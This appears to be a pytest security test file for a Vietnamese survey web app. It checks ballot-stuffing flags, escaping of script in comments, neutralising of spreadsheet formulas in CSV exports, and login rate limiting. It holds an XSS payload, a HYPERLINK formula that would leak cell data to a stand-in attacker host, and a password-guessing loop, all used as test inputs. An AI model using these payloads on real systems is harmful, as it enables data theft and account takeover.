"""Attacks from the outside: ballot stuffing, script in comments, formula injection, password guessing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import func, select

from survey import create_app
from survey.extensions import db
from survey.models import Campaign, Response, Unit, User
from survey.services.integrity import neutralise_cell

from ..factories import form_token, make_campaign, receipt
from ..web.workspace_support import login, make_user

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _send(client, code="TESTCODE", **answers) -> str:
    """GET the form and POST it; return the receipt number."""
    token = form_token(client.get(f"/s/{code}").get_data(as_text=True))
    resp = client.post(f"/s/{code}", data={"token": token, **answers})
    assert resp.status_code == 200
    return receipt(resp.get_data(as_text=True))


def _admin_client(app):
    """A logged-in Nội vụ admin at the root of the tree."""
    with app.app_context():
        unit = db.session.scalar(select(Unit).where(Unit.parent_id.is_(None)).order_by(Unit.id))
        make_user("noivu.attack", "admin", unit)
        db.session.commit()
    client = app.test_client()
    assert login(client, "noivu.attack").status_code == 302
    return client


def test_burst_of_100_from_one_phone_is_stored_and_flagged_for_review(app):
    with app.app_context():
        make_campaign()
        campaign_id = db.session.scalar(select(Campaign.id))
    phone = app.test_client()
    receipts = {_send(phone, c1_1=str(1 + i % 5), c1_2=str(1 + i // 20)) for i in range(100)}
    honest = app.test_client()
    _send(honest, c1_1="4")
    assert len(receipts) == 100  # never blocked: every answer got its own receipt
    with app.app_context():
        rows = db.session.scalars(select(Response).order_by(Response.id)).all()
        assert len(rows) == 101
        assert all("burst_device" in r.flags for r in rows[:100])
        assert "burst_device" not in rows[100].flags
        assert len({r.device_hash for r in rows[:100]}) == 1
    admin = _admin_client(app)
    page = admin.get(f"/admin/review?campaign_id={campaign_id}&status=flagged")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Nhiều phiếu từ cùng một thiết bị" in html
    assert re.search(r"\b10[01]\b", html)  # the queue's total


def test_script_in_a_comment_is_escaped_in_the_review_queue_and_detail(app):
    with app.app_context():
        make_campaign()
        campaign_id = db.session.scalar(select(Campaign.id))
    phone = app.test_client()
    _send(phone, gave_feedback="1", comment=XSS, c1_1="1")  # sent at once: flagged too_fast
    admin = _admin_client(app)
    with app.app_context():
        response_id = db.session.scalar(select(Response.id))
    for url in (f"/admin/review?campaign_id={campaign_id}", f"/admin/responses/{response_id}"):
        html = admin.get(url).get_data(as_text=True)
        assert "&lt;script&gt;alert(" in html, url  # shown, as text
        assert "<script>alert" not in html and "onerror=alert" not in html.replace(
            "onerror=alert(1)&gt;", ""), url


def test_formula_in_a_text_answer_is_neutralised_for_spreadsheets(app):
    """The helper every CSV/XLSX export uses; the stored answer itself is kept as typed."""
    with app.app_context():
        make_campaign()
    _send(app.test_client(), comment=FORMULA, c1_1="5")
    with app.app_context():
        stored = db.session.scalar(select(Response)).answers
        text = next(a.text for a in stored if a.item_code == "comment")
    assert text == FORMULA  # data never changes; only the cell written out does
    buffer = io.StringIO()
    csv.writer(buffer).writerow([neutralise_cell(text), neutralise_cell(5), neutralise_cell(-1.5)])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["'" + FORMULA, "5", "-1.5"]


def test_sipas_analyze_csv_has_no_cell_a_spreadsheet_would_run(tmp_path):
    from click.testing import CliRunner

    from survey.analyze_cmd import analyze_command

    from ..stats.helpers import DEMO_DATA, FIXTURES
    text = DEMO_DATA.read_text(encoding="utf-8").replace("stratum", "unit")
    lines = text.splitlines()
    header = next(csv.reader([lines[0]]))
    unit_col = header.index("unit")
    rows = [next(csv.reader([line])) for line in lines[1:]]
    for row in rows:
        if row[unit_col] == "A":
            row[unit_col] = FORMULA
    data = tmp_path / "data.csv"
    with data.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([header, *rows])
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(analyze_command, [
        str(data), "--questionnaire", str(FIXTURES / "r-demo.yaml"), "--by", "unit",
        "--format", "csv", "--output", str(out)])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not re.fullmatch(r"-[\d.e+-]+", c))]


def test_demo_staff_device_and_burst_flags_appear_in_the_review_queue(app, runner):
    result = runner.invoke(args=["demo", "--responses", "400"])
    assert result.exit_code == 0, result.output
    admin = _admin_client(app)
    with app.app_context():
        campaign_id = db.session.scalar(select(Campaign.id))
        flagged = db.session.scalar(select(func.count(Response.id)).where(
            Response.flags.is_not(None), func.length(func.cast(Response.flags, db.String)) > 2))
    html = admin.get(f"/admin/review?campaign_id={campaign_id}&status=flagged").get_data(as_text=True)
    assert "Gửi từ phiên đăng nhập của cán bộ" in html  # staff_session
    assert "Nhiều phiếu từ cùng một thiết bị trong thời gian ngắn" in html  # burst_device
    assert len(re.findall(r"/admin/responses/\d+", html)) >= flagged == 11


@pytest.fixture
def throttled(app):
    """The same database with the limiter on, as in production."""
    limited = create_app({"TESTING": True, "SQLALCHEMY_DATABASE_URI": app.config["SQLALCHEMY_DATABASE_URI"],
                          "SECRET_KEY": "test-secret-not-for-production", "RATELIMIT_ENABLED": True,
                          "RATELIMIT_STORAGE_URI": "memory://"})
    with limited.app_context():
        unit = Unit(code="BF", name="Phường Thử", level="ward")
        db.session.add(unit)
        db.session.flush()
        make_user("noivu", "admin", unit)
        db.session.commit()
    yield limited
    with limited.app_context():
        db.session.remove()
        db.engine.dispose()


def test_login_brute_force_is_throttled_with_the_default_limits(throttled):
    attacker = throttled.test_client()
    codes = [login(attacker, "noivu", password=f"mật khẩu đoán {i}").status_code for i in range(50)]
    assert codes[0] == 401 and codes.count(401) <= 10, codes  # the default per-address limit
    assert codes[-1] == 429
    assert login(attacker, "noivu").status_code == 429  # the right password, from the attacker
    print(f"\nlogin brute force: {codes.count(401)} of 50 guesses answered, the rest 429")
    # Guesses from other addresses meet the per-account lockout (A1): the account is locked.
    with throttled.app_context():
        user = db.session.scalar(select(User).filter_by(username="noivu"))
        assert user.failed_logins >= 5 or user.locked_until is not None
